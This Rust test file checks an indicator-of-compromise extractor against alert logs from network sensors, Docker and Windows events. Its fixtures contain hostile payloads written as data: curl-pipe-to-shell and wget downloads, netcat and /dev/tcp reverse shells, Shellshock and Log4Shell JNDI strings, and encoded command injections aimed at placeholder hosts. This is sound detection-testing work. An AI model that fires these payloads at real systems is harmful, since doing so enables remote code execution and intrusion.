//! Indicators in places that are easily passed over, beside what stands there and is none.

use serde_json::{Value, json};

use super::{alert, expect};

#[test]
fn the_name_that_a_client_of_tls_asks_for_is_an_indicator_unless_the_server_is_ones_own() {
    let sensor = |to: &str| json!({"data": {"src_ip": "10.0.0.9", "dest_ip": to, "tls": {"sni": "c2.evil.example", "ja3": {"hash": super::MD5}}}});
    let finding = |to: &str| json!({"source": {"ip": "10.0.0.9"}, "destination": {"ip": to}, "tls": {"client": {"server_name": "c2.evil.example"}}});
    let zeek = |to: &str| {
        json!({"data": {"id.orig_h": "10.0.0.9", "id.orig_p": "50000", "id.resp_h": to, "id.resp_p": "443",
            "server_name": "c2.evil.example", "subject": "CN=x"}})
    };
    for of in [&sensor as &dyn Fn(&str) -> Value, &finding, &zeek] {
        expect(
            &of("203.0.113.66"),
            &[("ip-dst", "203.0.113.66"), ("domain", "c2.evil.example")],
        );
        expect(&of("10.0.0.5"), &[]);
        assert_eq!(alert(&of("203.0.113.66")).actors().domains, ["c2.evil.example"]);
    }
    // Where it is not known to lead out, it may be one's own.
    for ends in [
        json!({"srcip": "203.0.113.9"}),
        json!({"src_ip": "203.0.113.9", "dest_ip": "8.8.4.4"}),
        json!({"src_ip": "8.8.4.4", "src_port": "443", "dest_ip": "203.0.113.9", "dest_port": "50000"}),
        json!({"src_ip": "8.8.4.4", "dest_ip": "203.0.113.9", "direction": "to_client"}),
        json!({}),
    ] {
        let mut seen = json!({"data": ends});
        seen["data"]["tls"] = json!({"sni": "shop.test-org.com"});
        let iocs = super::indicators_of(&seen);
        assert!(iocs.iter().all(|(kind, _)| *kind != "domain"), "{seen}");
    }
    for ends in [
        json!({"dest_ip": "203.0.113.66"}),
        json!({"src_ip": "203.0.113.66", "dest_ip": "10.0.0.9", "direction": "to_client"}),
    ] {
        let mut seen = json!({"data": ends});
        seen["data"]["tls"] = json!({"sni": "c2.evil.example"});
        let iocs = super::indicators_of(&seen);
        assert!(iocs.contains(&("domain", "c2.evil.example".to_owned())), "{seen}");
    }
    // A web server calls itself so.
    let request = json!({"data": {"remote_addr": "203.0.113.9", "server_name": "shop.test-org.com"}});
    expect(&request, &[("ip-src", "203.0.113.9")]);
    assert!(alert(&request).actors().domains.is_empty());
}

#[test]
fn fields_below_a_list_are_called_as_the_list_is() {
    for (value, kind) in [
        (
            json!({"dns": {"answers": [{"type": "A", "data": "203.0.113.66"}]}}),
            "ip-dst",
        ),
        (json!({"data": {"source": [{"ip": "203.0.113.66"}]}}), "ip-src"),
        (json!({"data": {"destination": [{"ip": "203.0.113.66"}]}}), "ip-dst"),
        (json!({"data": {"attackers": [{"ip": "203.0.113.66"}]}}), "ip-src"),
        (json!({"data": {"seen": [{"ip": "203.0.113.66"}]}}), "ip-any"),
    ] {
        expect(&value, &[(kind, "203.0.113.66")]);
    }
    // What is asked for and answered is no address.
    let alias = json!({"dns": {"answers": [{"type": "CNAME", "data": "cdn.evil.example"}]}});
    expect(&alias, &[]);
}

#[test]
fn what_a_container_runs_and_where_a_found_file_came_from_is_looked_through() {
    let docker = |action: &str| json!({"data": {"docker": {"Action": action, "from": "registry.evil.example/nginx:1.2.3.4", "Actor": {"Attributes": {"name": "web"}}}}});
    expect(
        &docker("exec_start: sh -c curl http://203.0.113.66/x|sh; nc 203.0.113.67 4444"),
        &[
            ("ip-dst", "203.0.113.66"),
            ("url", "http://203.0.113.66/x"),
            ("ip-dst", "203.0.113.67"),
        ],
    );
    expect(&docker("pull"), &[]);
    let found = |list: &str| json!({"data": {"win": {"system": {"eventID": "1116"}, "eventdata": {"path": list}}}});
    let fetched = found(
        "file:_C:\\\\x\\\\crack.exe; webfile:_C:\\\\x\\\\crack.exe|http://evil.example/crack.exe|pid:1,ProcessStart:1",
    );
    expect(
        &fetched,
        &[("domain", "evil.example"), ("url", "http://evil.example/crack.exe")],
    );
    let alert = alert(&fetched);
    let actors = alert.actors();
    assert_eq!(actors.files, ["C:\\x\\crack.exe"]);
    assert_eq!(actors.urls, ["http://evil.example/crack.exe"]);
    expect(&found("file:_C:\\\\x\\\\crack.exe"), &[]);
    // Whoever calls his file so has a file of that name.
    let added = json!({"syscheck": {"path": "/srv/x/file:_evil.sh", "event": "added"}});
    expect(&added, &[("filename", "file:_evil.sh")]);
    assert_eq!(super::alert(&added).actors().files, ["/srv/x/file:_evil.sh"]);
    let written = json!({"data": {"win": {"system": {"eventID": "11"}, "eventdata": {"targetFilename": "C:\\\\x\\\\profile:_a.exe"}}}});
    expect(&written, &[("filename", "profile:_a.exe")]);
}

#[test]
fn what_a_source_was_translated_into_counts_only_where_no_other_is_told() {
    let (from, to) = (("ip-src", "203.0.113.9"), ("ip-dst", "203.0.113.66"));
    for (value, expected) in [
        (
            json!({"source": {"ip": "10.0.0.50", "nat": {"ip": "8.8.4.4"}}, "destination": {"ip": "203.0.113.66"}}),
            &[to][..],
        ),
        (
            json!({"source": {"nat": {"ip": "8.8.4.4"}, "ip": "10.0.0.50"}, "destination": {"ip": "203.0.113.66"}}),
            &[to],
        ),
        (
            json!({"data": {"nat_source_ip": "8.8.4.4", "source_address": "10.0.0.50", "destination_address": "203.0.113.66"}}),
            &[to],
        ),
        (
            json!({"data": {"srcip": "10.0.0.50", "dstip": "203.0.113.66", "transip": "8.8.4.4"}}),
            &[to],
        ),
        (
            json!({"data": {"src_ip": "10.0.0.50", "dst_ip": "203.0.113.66", "tran_src_ip": "8.8.4.4"}}),
            &[to],
        ),
        (
            json!({"data": {"translated_src_ip": "8.8.4.4", "src_ip": "10.0.0.50", "dst_ip": "203.0.113.66"}}),
            &[to],
        ),
        (
            json!({"related": {"ip": ["10.0.0.50", "8.8.4.4", "203.0.113.66"]}, "source": {"ip": "10.0.0.50", "nat": {"ip": "8.8.4.4"}},
                "destination": {"ip": "203.0.113.66"}}),
            &[to],
        ),
        // Where nothing else is told, and where something led to it, it counts.
        (
            json!({"related": {"ip": ["203.0.113.9"]}, "source": {"nat": {"ip": "203.0.113.9"}}}),
            &[from],
        ),
        (
            json!({"related": {"ip": ["203.0.113.66"]}, "source": {"ip": "10.0.0.50", "nat": {"ip": "203.0.113.66"}},
                "destination": {"ip": "203.0.113.66"}}),
            &[to],
        ),
        (json!({"data": {"tran_src_ip": "203.0.113.9"}}), &[from]),
        (json!({"data": {"nat_source_ip": "203.0.113.9"}}), &[from]),
        // It is of that end alone.
        (
            json!({"source": {"nat": {"ip": "203.0.113.9"}}, "destination": {"ip": "10.0.0.5"}}),
            &[from],
        ),
        (
            json!({"data": {"nat_source_ip": "203.0.113.9", "dstip": "10.0.0.5"}}),
            &[from],
        ),
        // A destination leads there, too.
        (
            json!({"source": {"ip": "10.0.0.50"}, "destination": {"ip": "10.0.0.53", "nat": {"ip": "203.0.113.66"}}}),
            &[("ip-any", "203.0.113.66")],
        ),
        (
            json!({"data": {"srcip": "10.0.0.50", "dstip": "10.0.0.53", "tranip": "203.0.113.66"}}),
            &[to],
        ),
        (
            json!({"data": {"srcip": "203.0.113.9", "dstip": "203.0.113.66", "nat_dst_ip": "10.0.0.5"}}),
            &[from, to],
        ),
    ] {
        expect(&value, expected);
    }
    let value = json!({"source": {"nat": {"ip": "8.8.4.4", "port": 1}, "ip": "10.0.0.50"}});
    let alert = alert(&value);
    let sources = alert.actors().sources;
    assert_eq!(
        (sources.len(), sources[0].ip.as_deref(), sources[0].port),
        (1, Some("10.0.0.50"), None)
    );
    let value = json!({"data": {"src_ip": "10.0.0.50", "tran_src_ip": "8.8.4.4", "ip": "8.8.4.4"}});
    let alert = super::alert(&value);
    let sources = alert.actors().sources;
    assert_eq!((sources.len(), sources[0].ip.as_deref()), (1, Some("10.0.0.50")));
    let value = json!({"data": {"nat_source_ip": "203.0.113.9", "dstip": "10.0.0.5"}});
    let alert = super::alert(&value);
    assert_eq!(alert.actors().sources[0].ip.as_deref(), Some("203.0.113.9"));
}

#[test]
fn the_mark_of_a_file_from_elsewhere_is_no_part_of_its_name() {
    let written =
        |path: &str| json!({"data": {"win": {"system": {"eventID": "15"}, "eventdata": {"targetFilename": path}}}});
    let file = [("filename", "a.iso")];
    expect(&written("C:\\\\x\\\\a.iso:Zone.Identifier"), &file);
    expect(&written("C:\\\\x\\\\a.iso"), &file);
    expect(&written("C:\\\\x\\\\a.iso:zone.identifier"), &file);
    for typed in ["a.iso::$DATA", "a.iso:Zone.Identifier:$data"] {
        expect(&written(&format!("C:\\\\x\\\\{typed}")), &file);
    }
    for hidden in ["report.txt:payload.exe", "desktop.ini:payload.exe", ":payload.exe"] {
        expect(&written(&format!("C:\\\\x\\\\{hidden}")), &[("filename", hidden)]);
    }
    let added = json!({"syscheck": {"path": "/srv/x/a:b.sh", "event": "added"}});
    expect(&added, &[("filename", "a:b.sh")]);
}

/// A request as an access log tells of it, with what stands in quotation marks behind it.
fn request(url: &str, referrer: &str, agent: &str) -> Value {
    let line = format!(
        "203.0.113.9 - - [20/Jan/2026:10:00:00 +0100] \"GET {url} HTTP/1.1\" 200 12 \"{referrer}\" \"{agent}\""
    );
    json!({"decoder": {"name": "web-accesslog"}, "data": {"srcip": "203.0.113.9", "url": url}, "full_log": line})
}

#[test]
fn a_payload_ends_where_the_field_ends_that_holds_it() {
    let (own, robot) = ("https://shop.test-org.com/login", "x (+http://www.google.com/bot.html)");
    let evil = [("domain", "evil.example"), ("url", "ldap://evil.example/a")];
    let from = ("ip-src", "203.0.113.9");
    for look_up in ["${jndi:ldap://evil.example/a}", "${jndi:ldap://evil.example/a"] {
        let asked = request(&format!("/login?u={look_up}"), own, robot);
        expect(&asked, &[from, evil[0], evil[1]]);
    }
    expect(&request("/?x=${name}:1", own, robot), &[from]);
    let asked = format!("GET /?u=${{jndi:ldap://evil.example/a}}&next={own} HTTP/1.1");
    expect(&json!({"full_log": asked}), &evil);
    let json = json!({"msg": "hi ${jndi:ldap://evil.example/a}", "referer": own, "docs": "${env:X}"}).to_string();
    expect(&json!({"full_log": json}), &evil);
}

#[test]
fn what_is_fetched_behind_the_variable_of_a_shell_is_an_indicator() {
    let from = ("ip-src", "203.0.113.9");
    let evil = [("domain", "evil.example"), ("url", "http://evil.example/x")];
    let (own, command) = ("https://shop.test-org.com/login", ";curl${IFS}http://evil.example/x|sh");
    expect(&request("/", own, command), &[from, evil[0], evil[1]]);
    expect(&json!({"data": {"user_agent": command}}), &evil);
    expect(
        &json!({"full_log": "ModSecurity: Warning [uri \"/cgi-bin/;wget${IFS}http://evil.example/x\"] [ref \"https://shop.test-org.com\"]"}),
        &evil,
    );
}

#[test]
fn quotation_marks_hide_no_payload() {
    let evil = [("domain", "evil.example"), ("url", "ldap://evil.example/a")];
    for look_up in [
        "\"${jndi:${env:\":-}ldap://evil.example/a}",
        "${jndi:${env:\":-}ldap://evil.example/a}",
    ] {
        expect(&json!({"data": {"user_agent": look_up}}), &evil);
        let line = json!({"http": {"user_agent": look_up, "referer": "https://shop.test-org.com"}}).to_string();
        expect(&json!({"full_log": line}), &evil);
    }
    let script =
        "\"${script:javascript:java.lang.Runtime.getRuntime().exec([\"sh\",\"-c\",\"curl ldap://evil.example/a\"])}\"";
    expect(&json!({"data": {"msg": format!("ua={script}")}}), &evil);
    expect(
        &json!({"full_log": format!("app: disk 5\" sent {}", &script[1..])}),
        &evil,
    );
    let printable =
        "GET / HTTP/1.1\r\nIf-None-Match: \"\r\nUser-Agent: () { :; }; echo \"a\" ; wget http://203.0.113.66/x";
    expect(
        &json!({"data": {"payload_printable": printable}}),
        &[("ip-dst", "203.0.113.66"), ("url", "http://203.0.113.66/x")],
    );
}

#[test]
fn addresses_are_found_in_payloads_that_name_no_scheme() {
    let (from, to) = (("ip-src", "203.0.113.9"), ("ip-dst", "203.0.113.66"));
    let shell = "() { :; }; /bin/bash -c 'wget 203.0.113.66/x; bash -i >& /dev/tcp/203.0.113.67/4444'";
    expect(
        &request("/cgi-bin/x", "-", shell),
        &[from, to, ("ip-dst", "203.0.113.67")],
    );
    for url in [
        "/cgi-bin/;wget${IFS}203.0.113.66/x;sh",
        "/cgi-bin/;wget$%7bIFS%7d203.0.113.66/x",
        "/a%7Cnc%20203.0.113.66%204444",
        "/cgi-bin/;wget%20203.0.113.66/x",
        "/cgi-bin/;{wget,203.0.113.66}",
        "/cgi-bin/x%26%26wget%20203.0.113.66/x",
        "/x%0awget%20203.0.113.66/x",
        "/cgi-bin/;wget%0a203.0.113.66",
        "/x?a=1%0awget%09203.0.113.66",
        "/x?a=%26{wget,203.0.113.66}",
        "/%60ping%20203.0.113.66%60?b=c",
        "/shell?cd+/tmp;wget+203.0.113.66/x",
    ] {
        expect(&request(url, "-", "-"), &[from, to]);
    }
    for url in [
        "/whois/203.0.113.66",
        "/a;v=203.0.113.66/x",
        "/a&v=203.0.113.66/x",
        "/a%20b/203.0.113.66",
        "/?to=%2Fa%3Fb%3D1%26v=203.0.113.66",
        "/a/203.0.113.66?q=203.0.113.67",
        "/",
    ] {
        expect(&request(url, "-", "function() { 203.0.113.68"), &[from]);
    }
}

#[test]
fn where_two_hosts_may_be_meant_both_are_indicators() {
    let command = |line: &str| json!({"data": {"win": {"eventdata": {"commandLine": line}}}});
    let (evil, url) = (("domain", "evil.example"), ("url", "http://evil.example/"));
    let bank = ("domain", "bank.example");
    for line in [
        "x={'http://evil.example':'a@bank.example'}",
        "open('http://evil.example'.'a@bank.example')",
        "curl http://evil.example'--a@bank.example",
    ] {
        expect(&command(line), &[evil, url, bank]);
    }
    expect(
        &command("curl http://evil.example'';x=a@bank.example"),
        &[evil, url, bank],
    );
    for asked in [
        "/?x=http://evil.example'--a@bank.example",
        "/?x=http%3A%2F%2Fevil.example%27--a%40bank.example",
    ] {
        expect(&json!({"data": {"url": asked}}), &[evil, url, bank]);
    }
    let iocs =
        super::indicators_of(&json!({"data": {"user_agent": "${jndi:ldap://evil.example'';x=a@bank.example/a}"}}));
    for (kind, value) in [evil, bank] {
        assert!(iocs.contains(&(kind, value.to_owned())), "{iocs:?}");
    }
    let url = "http://www.bank.example'.x@203.0.113.66/a";
    for value in [
        json!({"data": {"url": url}}),
        command(&format!("curl {url}")),
        json!({"data": {"url": format!("/?to={url}")}}),
    ] {
        expect(
            &value,
            &[
                ("domain", "www.bank.example"),
                ("url", "http://www.bank.example/"),
                ("ip-dst", "203.0.113.66"),
            ],
        );
    }
    // A name and its password are no host.
    expect(
        &command("curl http://user:pw@evil.example"),
        &[evil, ("url", "http://user:pw@evil.example/")],
    );
}
